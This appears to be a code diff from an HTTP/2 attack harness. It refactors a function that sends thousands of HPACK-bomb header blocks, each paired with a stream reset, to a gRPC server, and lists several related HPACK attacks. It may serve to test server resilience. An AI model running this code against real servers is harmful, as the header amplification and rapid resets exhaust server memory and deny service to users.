@@ -20,7 +20,11 @@ const callBlock = encodeHeaders(grpcHeaders(methodPaths.issue));
  * A list of 60 KB, just below what servers permit, in a block of 150 bytes. What is written at once
  * is read in one turn of the server's event loop, and the resets free the places for further streams.
  */
-async function bombs(connection: RawConnection): Promise<boolean> {
+export async function writeBombs(
+  connection: RawConnection,
+  callBlock: Uint8Array,
+  streams: number,
+): Promise<boolean> {
   const first = connection.nextStream();
   if (first === 1) {
     if (!await connection.becomesReady()) return false;
@@ -28,11 +32,11 @@ async function bombs(connection: RawConnection): Promise<boolean> {
     await connection.send(headers(first, concat(callBlock, entry), { endStream: true }));
   }
   const block = concat(callBlock, repeat(newest, 14));
-  const streams = Array.from({ length: 5_000 }, () => {
+  const bombs = Array.from({ length: streams }, () => {
     const stream = connection.nextStream();
     return concat(headers(stream, block), rstStream(stream));
   });
-  return await connection.send(...streams);
+  return await connection.send(...bombs);
 }
 
 /** 60 KB of references to an entry of 4 KB: 240 MB of header list a stream. */
@@ -123,7 +127,8 @@ const tooMuch = { bytes: 16 * 1024 * 1024, messages: 1 };
 const permitted = { bytes: 500 * 1024, messages: 300 };
 
 const attacks: Readonly<Record<string, (attack: Attack) => Promise<string>>> = {
-  "hpack bomb of 60 KB a stream": (attack) => onFour(attack, { polite: false }, bombs),
+  "hpack bomb of 60 KB a stream": (attack) =>
+    onFour(attack, { polite: false }, (connection) => writeBombs(connection, callBlock, 5_000)),
   "hpack bomb of 60,000 references": perStream(references),
   "hpack with thousands of pairs": perStream(manyPairs),
   "hpack table sizes": perStream(sizeGame),
